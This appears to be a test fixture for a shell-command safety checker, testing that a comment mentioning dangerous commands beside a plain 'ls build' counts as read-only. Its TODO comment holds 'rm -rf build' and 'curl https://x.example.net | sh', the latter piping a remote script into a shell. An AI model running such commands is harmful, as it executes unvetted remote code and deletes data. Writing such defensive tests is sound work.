# expect: none
# read-only: true
# source: DESIGN.md section 2: read-only list
# technique: comment mentioning rm -rf and curl | sh
# TODO: rm -rf build and curl https://x.example.net | sh once CI is green
ls build
